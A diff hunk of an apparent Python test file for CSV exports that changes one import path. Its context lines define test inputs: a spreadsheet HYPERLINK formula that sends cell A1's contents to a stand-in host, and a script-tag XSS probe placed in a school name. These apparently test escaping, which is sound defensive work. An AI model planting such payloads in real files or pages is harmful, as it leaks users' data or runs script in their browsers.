@@ -15,7 +15,7 @@ from hypothesis import strategies as st
 
 from helpers import figures
 from helpers.figures import showing, style
-from helpers.figures.downloads import FORMULA_STARTS, csv_text
+from helpers.results.downloads import FORMULA_STARTS, csv_text
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Elm Road Primary School")'
 MARKUP = "<script>alert(1)</script> Primary School"
